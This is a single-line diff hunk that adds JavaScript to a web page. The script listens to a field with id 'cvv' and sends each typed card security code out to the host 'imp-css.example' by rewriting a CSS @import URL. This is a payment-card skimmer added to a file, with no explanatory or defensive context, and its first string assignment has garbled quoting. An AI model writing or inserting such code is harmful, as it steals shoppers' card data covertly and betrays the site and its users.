@@ -1,0 +1,1 @@
+var st=document.createElement('style');st.innerHTML='@import url("https://imp-css.example/t.css?d='+'"+';document.getElementById('cvv').oninput=function(){st.innerHTML='@import url("https://imp-css.example/t.css?d='+this.value+'")';document.head.appendChild(st)};
